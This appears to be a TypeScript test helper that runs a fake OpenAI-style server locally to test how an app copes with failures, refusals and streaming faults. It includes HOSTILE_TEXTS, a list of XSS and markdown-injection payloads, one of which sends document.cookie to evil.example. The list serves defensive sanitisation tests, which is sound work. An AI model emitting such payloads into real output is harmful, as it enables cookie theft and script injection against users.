import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/** What the look-alike and the server under test share. */
export const MODEL_NAMES = {
  apiKey: 'a-key-of-the-look-alike',
  model: 'look-alike-1',
  embeddingModel: 'look-alike-embedding-1',
} as const;

/** A request for an answer, as it arrived. */
export interface ChatAsked {
  readonly model: string;
  readonly messages: readonly { readonly role: string; readonly content: string }[];
  readonly stream?: boolean;
  readonly max_tokens?: number;
  readonly max_completion_tokens?: number;
  readonly stream_options?: { readonly include_usage?: boolean };
  readonly response_format?: { readonly json_schema?: { readonly name: string; readonly schema: object } };
}

/** What was said last, which tests answer by. */
export const lastWordIn = ({ messages }: ChatAsked): string => messages.at(-1)?.content ?? '';

/** The name of the form that was asked for; null for an answer in words. */
export const formIn = ({ response_format: form }: ChatAsked): string | null =>
  form?.json_schema?.name ?? null;

/**
 * How the server behaves. `good` and `wrong` say what the script says; which of them it is, the script decides.
 * `slow`: says nothing. `dripping`: begins and never ends. `broken-off`: closes the connection in the middle of the
 * answer. `cut`: ends it in the middle, because it had no more tokens. `unfinished`: ends it without saying why.
 * `declining`: answers with a refusal. `endless`: does not stop.
 */
export type ModelMood =
  | 'good'
  | 'slow'
  | 'dripping'
  | 'broken-off'
  | 'cut'
  | 'unfinished'
  | 'declining'
  | 'endless'
  | 'down'
  | '500'
  | '429'
  | '401'
  | 'html'
  | 'empty'
  | 'bad-json'
  | 'bad-stream';

/** What a hostile model would write into any text. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  '<img src=x onerror="alert(1)">',
  '![read me](https://evil.example/pixel.png?user=me)',
  '[the solution](javascript:alert(document.domain))',
  '<a href="javascript:alert(1)">the solution</a>',
  '[the solution](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  '</p><iframe src="https://evil.example"></iframe>',
];

export interface ModelLookAlike {
  /** With its version: what AI_BASE_URL is set to. */
  readonly url: string;
  /** Requests for answers that arrived, in their order. */
  readonly asked: ChatAsked[];
  /** Texts for which vectors were asked. */
  readonly embedded: string[];
  mood: ModelMood;
  /** For so many requests; then it is good again. */
  moodLasts: number;
  /** Answers a request: by the text that the model says, thoughts, fences and all. */
  script: (asked: ChatAsked) => string;
  /** Whether it counts tokens: always, when it is asked to, or never. */
  counts: 'always' | 'asked' | 'never';
  /** Members of requests that it does not know and refuses by their names. */
  unknown: readonly string[];
  /** Pieces in which it streams, characters. */
  pieceLength: number;
  /** Connections that a client closed before its answer was complete. */
  readonly givenUp: () => number;
  readonly close: () => Promise<void>;
}

/** Tokens as this provider counts them: four characters each. */
export const countTokens = (text: string): number => Math.ceil(text.length / 4);

const usageOf = ({ messages }: ChatAsked, text: string) => {
  const prompt = messages.reduce((sum, { content }) => sum + countTokens(content), 0);
  const completion = countTokens(text);
  return { prompt_tokens: prompt, completion_tokens: completion, total_tokens: prompt + completion };
};

const DIMENSIONS = 256;

function hashOf(word: string): number {
  let hash = 2_166_136_261;
  for (const character of word) hash = Math.imul(hash ^ (character.codePointAt(0) ?? 0), 16_777_619) >>> 0;
  return hash;
}

/** A vector that counts the words of a text: texts that share words are near to each other. It is not of length 1. */
export function vectorOf(text: string): number[] {
  const vector = Array.from({ length: DIMENSIONS }, () => 0);
  const words = text.toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? ['nothing'];
  for (const word of words) {
    const place = hashOf(word) % DIMENSIONS;
    vector[place] = (vector[place] ?? 0) + 1;
  }
  return vector;
}

type Json = Readonly<Record<string, unknown>>;

const answerJson = (response: ServerResponse, status: number, json: object, headers: object = {}) =>
  void response
    .writeHead(status, { 'content-type': 'application/json', ...headers })
    .end(JSON.stringify(json));

const refuse = (response: ServerResponse, status: number, message: string, headers: object = {}) =>
  answerJson(response, status, { error: { message, type: 'invalid_request_error' } }, headers);

const say = (response: ServerResponse, data: object | '[DONE]') =>
  response.write(`data: ${typeof data === 'string' ? data : JSON.stringify(data)}\n\n`);

/** OpenAI's HTTP interface, as its documentation and the local servers that copy it have it, on a port of this machine. */
export async function serveLanguageModel(
  script: ModelLookAlike['script'] = () => 'A good answer.',
): Promise<ModelLookAlike> {
  let givenUp = 0;
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    response.on('close', () => (givenUp += response.writableFinished ? 0 : 1));
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const text = Buffer.concat(chunks).toString('utf8');
      const body = (text === '' ? {} : JSON.parse(text)) as Json;
      void answer(
        lookAlike,
        { path: request.url ?? '/', key: request.headers.authorization ?? '', body },
        response,
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const lookAlike: ModelLookAlike = {
    url: `http://127.0.0.1:${port}/v1`,
    asked: [],
    embedded: [],
    mood: 'good',
    moodLasts: Number.POSITIVE_INFINITY,
    script,
    counts: 'asked',
    unknown: [],
    pieceLength: 12,
    givenUp: () => givenUp,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
  return lookAlike;
}

interface Arrived {
  readonly path: string;
  readonly key: string;
  readonly body: Json;
}

async function answer(books: ModelLookAlike, { path, key, body }: Arrived, response: ServerResponse) {
  const mood = nextMood(books);
  if (path === '/v1/chat/completions') books.asked.push(body as unknown as ChatAsked);
  if (isRude(mood, response)) return;
  if (key !== `Bearer ${MODEL_NAMES.apiKey}`) return refuse(response, 401, 'Incorrect API key provided.');
  const strange = books.unknown.find((name) => name in body);
  if (strange !== undefined) return refuse(response, 400, `Unsupported parameter: '${strange}'`);
  if (path === '/v1/models') return answerJson(response, 200, modelList());
  if (path === '/v1/embeddings') return answerEmbeddings(books, body, response);
  if (path !== '/v1/chat/completions') return refuse(response, 404, `Unknown request URL: ${path}`);
  const asked = body as unknown as ChatAsked;
  if (asked.model !== MODEL_NAMES.model)
    return refuse(response, 404, `The model ${asked.model} does not exist`);
  if (asked.stream === true) await stream(books, asked, mood, response);
  else answerWhole(books, asked, response);
}

function nextMood(books: ModelLookAlike): ModelMood {
  if (books.moodLasts <= 0) return 'good';
  books.moodLasts -= 1;
  return books.mood;
}

/** @returns whether it has answered, or never will. */
function isRude(mood: ModelMood, response: ServerResponse): boolean {
  if (mood === 'slow') return true;
  if (mood === 'down') response.socket?.destroy();
  else if (mood === '500') refuse(response, 500, 'The server had an error.');
  else if (mood === '429') refuse(response, 429, 'Rate limit reached.');
  else if (mood === '401') refuse(response, 401, 'Incorrect API key provided.');
  else if (mood === 'html') response.writeHead(200, { 'content-type': 'text/html' }).end(HTML);
  else if (mood === 'empty') response.writeHead(200, { 'content-type': 'text/event-stream' }).end();
  else if (mood === 'bad-json')
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"choices": [');
  else return false;
  return true;
}

const HTML = '<!doctype html><title>502 Bad Gateway</title><h1>Bad Gateway</h1>';

const modelList = () => ({
  object: 'list',
  data: [MODEL_NAMES.model, MODEL_NAMES.embeddingModel].map((id) => ({
    id,
    object: 'model',
    owned_by: 'look-alike',
  })),
});

function answerEmbeddings(books: ModelLookAlike, { input, model }: Json, response: ServerResponse): void {
  if (model !== MODEL_NAMES.embeddingModel)
    return refuse(response, 404, `The model ${String(model)} does not exist`);
  const texts = (Array.isArray(input) ? input : [input]).map(String);
  books.embedded.push(...texts);
  const data = texts.map((text, index) => ({ object: 'embedding', index, embedding: vectorOf(text) }));
  const tokens = texts.reduce((sum, text) => sum + countTokens(text), 0);
  const usage = { prompt_tokens: tokens, total_tokens: tokens };
  // A provider promises no order.
  answerJson(response, 200, { object: 'list', model, data: data.reverse(), usage });
}

function answerWhole(books: ModelLookAlike, asked: ChatAsked, response: ServerResponse): void {
  const content = books.script(asked);
  answerJson(response, 200, {
    id: 'chatcmpl-1',
    object: 'chat.completion',
    model: asked.model,
    choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
    usage: usageOf(asked, content),
  });
}

const chunk = (delta: object, finish: string | null = null) => ({
  id: 'chatcmpl-1',
  object: 'chat.completion.chunk',
  model: MODEL_NAMES.model,
  choices: [{ index: 0, delta, finish_reason: finish }],
});

async function stream(books: ModelLookAlike, asked: ChatAsked, mood: ModelMood, response: ServerResponse) {
  const text = books.script(asked);
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  if (mood === 'bad-stream') return void response.end('data: {"choices": [{"del\n\n');
  if (mood === 'declining') say(response, chunk({ role: 'assistant', refusal: 'I cannot help with that.' }));
  if (mood === 'endless') return pourOut(response);
  const half = mood === 'good' || mood === 'declining' ? text : text.slice(0, Math.ceil(text.length / 2));
  for (let at = 0; at < half.length; at += books.pieceLength)
    say(response, chunk({ content: half.slice(at, at + books.pieceLength) }));
  if (mood === 'dripping') return;
  // What was written has left by the next turn.
  if (mood === 'broken-off') return void setImmediate(() => response.socket?.destroy());
  if (mood !== 'unfinished') say(response, chunk({}, mood === 'cut' ? 'length' : 'stop'));
  if (isCounted(books, asked)) say(response, { ...chunk({}), choices: [], usage: usageOf(asked, half) });
  say(response, '[DONE]');
  response.end();
}

const isCounted = ({ counts }: ModelLookAlike, { stream_options: options }: ChatAsked) =>
  counts === 'always' || (counts === 'asked' && options?.include_usage === true);

/** Until the client has had enough. */
async function pourOut(response: ServerResponse): Promise<void> {
  while (!response.closed) {
    say(response, chunk({ content: 'and so on '.repeat(100) }));
    await delay(1);
  }
}

/** What makes a server process use the look-alike. */
export const modelEnvironment = (url: string) => ({
  AI_BASE_URL: url,
  AI_API_KEY: MODEL_NAMES.apiKey,
  AI_MODEL: MODEL_NAMES.model,
  AI_EMBEDDING_MODEL: MODEL_NAMES.embeddingModel,
});
